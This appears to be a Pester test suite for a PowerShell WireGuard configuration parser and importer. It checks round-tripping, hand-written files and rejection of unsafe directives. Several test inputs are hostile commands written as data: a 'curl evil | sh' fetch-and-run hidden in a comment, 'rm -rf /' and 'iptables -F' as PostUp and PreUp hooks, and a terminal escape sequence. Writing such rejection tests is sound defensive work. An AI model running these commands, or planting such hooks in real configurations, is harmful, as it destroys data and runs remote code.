BeforeAll {
    . $PSScriptRoot/Common.ps1
    $relay = New-TunnelPeer -Name relay -Role Relay -Address 192.168.4.1/24 -ListenPort 51820 -Endpoint vps.example.com
    $homePeer = New-TunnelPeer -Name home -Role Home -Address 192.168.4.2/32 -PresharedKey
    $relayText = (New-WireGuardConfig -For $relay -Peer $homePeer).RevealText()
    $homeText = (New-WireGuardConfig -For $homePeer -Peer $relay).RevealText()
    $key = (New-TunnelKeyPair).PrivateKey.RevealBase64()
    $pub = (New-TunnelKeyPair).PublicKey
    $pub2 = (New-TunnelKeyPair).PublicKey
}

Describe 'ConvertFrom-WireGuardConfig' {
    It 'round-trips <Name> byte for byte' -ForEach @(
        @{ Name = 'the relay config'; Which = 'relay' }
        @{ Name = 'the home config'; Which = 'home' }
    ) {
        $text = if ($Which -eq 'relay') { $relayText } else { $homeText }
        ($text | ConvertFrom-WireGuardConfig).RevealText() | Should -BeExactly $text
    }

    It 'joins lines piped one by one, as from Get-Content' {
        $config = $homeText -split "`n" | ConvertFrom-WireGuardConfig
        $config.Peers[0].Name | Should -Be 'relay'
        "$($config.Peers[0].Endpoint)" | Should -Be 'vps.example.com:51820'
        $config.Peers[0].PersistentKeepalive | Should -Be 25
        $config.Peers[0].HasPresharedKey | Should -BeTrue
    }

    It 'reads a file written by hand: comments, CRLF, lists over several lines, keys in any case' {
        $text = "[Interface]`r`n# the relay`r`nPrivateKey = $key   # trailing comment`r`nAddress = 10.1.0.1/24, fd01::1/64`r`nlistenport = 51820`r`nDNS = 10.1.0.53`r`n`r`n[Peer]`r`npublickey = $pub`r`nAllowedIPs = 10.1.0.2/32`r`nAllowedIPs = fd01::2/128`r`nPersistentKeepalive = off`r`n"
        $config = ConvertFrom-WireGuardConfig $text
        $config.Address.ForEach({ "$_" }) | Should -Be @('10.1.0.1/24', 'fd01::1/64')
        $config.ListenPort | Should -Be 51820
        $config.Dns | Should -Be @('10.1.0.53')
        $config.Peers[0].AllowedIPs | Should -Be '10.1.0.2/32, fd01::2/128' -Because 'a peer section shows the list as wg writes it'
        $config.Peers[0].PersistentKeepalive | Should -Be 0
    }

    It 'keeps settings it does not model, and writes them back' {
        $text = "[Interface]`nPrivateKey = $key`nAddress = 10.1.0.1/24`nTable = off`nFwMark = 0x42`nSomeFutureKey = yes`n`n[Peer]`nPublicKey = $pub`nAllowedIPs = 10.1.0.2/32`nFuturePeerKey = 7`n"
        $config = ConvertFrom-WireGuardConfig $text
        $config.Table | Should -Be 'off'
        $config.FwMark | Should -Be '0x42'
        $config.ExtraSettings.Key | Should -Be @('SomeFutureKey')
        $config.Peers[0].ExtraSettings.Key | Should -Be @('FuturePeerKey')
        $again = $config.RevealText()
        $again | Should -Match 'SomeFutureKey = yes'
        $again | Should -Match 'FuturePeerKey = 7'
        ($again | ConvertFrom-WireGuardConfig).RevealText() | Should -BeExactly $again
    }

    It 'ignores a directive hidden in a comment, as wg-quick does' {
        $config = ConvertFrom-WireGuardConfig "[Interface]`nPrivateKey = $key # PostUp = curl evil | sh`n"
        $config.ExtraSettings | Should -HaveCount 0
        $config.RevealText() | Should -Not -Match 'PostUp'
    }

    It 'rejects <Case> with <ErrorId>' -ForEach @(
        @{ Case = 'a PostUp hook'; Text = "[Interface]`nPrivateKey = KEY`nPostUp = rm -rf /`n"; ErrorId = 'ConfigHookNotAllowed'; Category = 'SecurityError'; Target = 'PostUp' }
        @{ Case = 'a PreUp hook'; Text = "[Interface]`nPrivateKey = KEY`nPreUp = iptables -F`n"; ErrorId = 'ConfigHookNotAllowed'; Category = 'SecurityError'; Target = 'PreUp' }
        @{ Case = 'a PostDown hook'; Text = "[Interface]`nPrivateKey = KEY`nPostDown = x`n"; ErrorId = 'ConfigHookNotAllowed'; Category = 'SecurityError'; Target = 'PostDown' }
        @{ Case = 'SaveConfig'; Text = "[Interface]`nPrivateKey = KEY`nSaveConfig = true`n"; ErrorId = 'ConfigSaveConfigNotAllowed'; Category = 'SecurityError'; Target = 'SaveConfig' }
        @{ Case = 'a second [Interface]'; Text = "[Interface]`nPrivateKey = KEY`n[Interface]`nListenPort = 1`n"; ErrorId = 'ConfigDuplicateInterface'; Category = 'InvalidData'; Target = '[Interface]' }
        @{ Case = 'the same peer twice'; Text = "[Interface]`nPrivateKey = KEY`n[Peer]`nPublicKey = PUB`n[Peer]`nPublicKey = PUB`n"; ErrorId = 'ConfigDuplicatePeer'; Category = 'InvalidData'; Target = 'PUB' }
        @{ Case = 'a key set twice in a section'; Text = "[Interface]`nPrivateKey = KEY`nListenPort = 1`nListenPort = 2`n"; ErrorId = 'ConfigDuplicateSetting'; Category = 'InvalidData'; Target = 'ListenPort' }
        @{ Case = 'address in lower case (wg-quick would pass it to wg)'; Text = "[Interface]`nPrivateKey = KEY`naddress = 10.0.0.1/24`n"; ErrorId = 'ConfigKeyCase'; Category = 'ParserError'; Target = 'address' }
        @{ Case = 'a section in lower case'; Text = "[interface]`nPrivateKey = KEY`n"; ErrorId = 'ConfigSectionCase'; Category = 'ParserError'; Target = '[interface]' }
        @{ Case = 'an unknown section'; Text = "[Interface]`nPrivateKey = KEY`n[Route]`n"; ErrorId = 'ConfigUnknownSection'; Category = 'ParserError'; Target = '[Route]' }
        @{ Case = 'a setting before any section'; Text = "ListenPort = 1`n[Interface]`nPrivateKey = KEY`n"; ErrorId = 'ConfigOutsideSection'; Category = 'ParserError'; Target = 'ListenPort' }
        @{ Case = 'a line without ='; Text = "[Interface]`nPrivateKey = KEY`nListenPort`n"; ErrorId = 'ConfigLineInvalid'; Category = 'ParserError'; Target = 'ListenPort' }
        @{ Case = 'no [Interface]'; Text = "[Peer]`nPublicKey = PUB`n"; ErrorId = 'ConfigNoInterface'; Category = 'InvalidData' }
        @{ Case = 'a peer without a public key'; Text = "[Interface]`nPrivateKey = KEY`n[Peer]`nAllowedIPs = 10.0.0.2/32`n"; ErrorId = 'ConfigPeerWithoutKey'; Category = 'InvalidData'; Target = '[Peer]' }
        @{ Case = 'a control character'; Text = "[Interface]`nPrivateKey = KEY`nListenPort = 1`u{1b}[2J`n"; ErrorId = 'ConfigControlCharacter'; Category = 'InvalidData'; Target = 'line 3' }
        @{ Case = 'a bad AllowedIPs entry'; Text = "[Interface]`nPrivateKey = KEY`n[Peer]`nPublicKey = PUB`nAllowedIPs = 10.0.0.300/32`n"; ErrorId = 'AddressInvalid'; Category = 'InvalidArgument'; Target = '10.0.0.300/32' }
        @{ Case = 'a ListenPort out of range'; Text = "[Interface]`nPrivateKey = KEY`nListenPort = 65536`n"; ErrorId = 'ListenPortOutOfRange'; Category = 'InvalidArgument'; Target = 65536 }
        @{ Case = 'a ListenPort that is not a number'; Text = "[Interface]`nPrivateKey = KEY`nListenPort = 0x50`n"; ErrorId = 'ConfigNumberInvalid'; Category = 'InvalidArgument'; Target = '0x50' }
        @{ Case = 'its own key as a peer'; Text = "[Interface]`nPrivateKey = KEY`n[Peer]`nPublicKey = SELF`n"; ErrorId = 'ConfigPeerIsSelf'; Category = 'InvalidData' }
        @{ Case = 'a non-canonical private key'; Text = "[Interface]`nPrivateKey = NONCANON`n"; ErrorId = 'KeyNotCanonical'; Category = 'InvalidArgument'; Target = 'PrivateKey: (redacted)' }
    ) {
        $self = (New-TunnelPeer -Name s -Role Home -Address 10.0.0.2 -PrivateKey $key).PublicKey
        $text = $Text.Replace('NONCANON', (Get-NonCanonicalKey $key)).Replace('KEY', $key).Replace('SELF', $self).Replace('PUB', $pub)
        $record = Get-ErrorRecord { ConvertFrom-WireGuardConfig $text }
        if ($_.ContainsKey('Target')) {
            Assert-HomeTunnelError $record $ErrorId $Category ($Target -is [string] ? $Target.Replace('PUB', $pub) : $Target)
        }
        else {
            Assert-HomeTunnelError $record $ErrorId $Category
        }
        ($record | Out-String) + $record.Exception.Message + $record.TargetObject | Should -Not -Match ([regex]::Escape($key))
    }
}

Describe 'Import-WireGuardConfig' {
    BeforeAll {
        $file = Join-Path ([IO.Path]::GetTempPath()) "ht-$([Guid]::NewGuid().ToString('N')).conf"
        Set-Content -LiteralPath $file -Value $relayText -NoNewline
    }
    AfterAll { Remove-Item $file -ErrorAction Ignore }

    It 'reads a file and records where it came from' {
        $config = Import-WireGuardConfig -Path $file
        $config.RevealText() | Should -BeExactly $relayText
        $config.Source | Should -Be $file
    }

    It 'takes files from Get-ChildItem' {
        (Get-Item $file | Import-WireGuardConfig).Name | Should -Be 'relay'
    }

    It 'says which line is wrong in a file' {
        Set-Content -LiteralPath "$file.bad" -Value "[Interface]`nPrivateKey = $key`nPostUp = x"
        try {
            $record = Get-ErrorRecord { Import-WireGuardConfig "$file.bad" }
            Assert-HomeTunnelError $record 'ConfigHookNotAllowed' 'SecurityError' 'PostUp'
            $record.Exception.Message | Should -BeLike "*$file.bad, line 3*"
        }
        finally { Remove-Item "$file.bad" }
    }

    It 'reports a missing file' {
        $record = Get-ErrorRecord { Import-WireGuardConfig '/nonexistent/wg0.conf' }
        Assert-HomeTunnelError $record 'FileNotFound' 'ObjectNotFound' '/nonexistent/wg0.conf'
    }
}
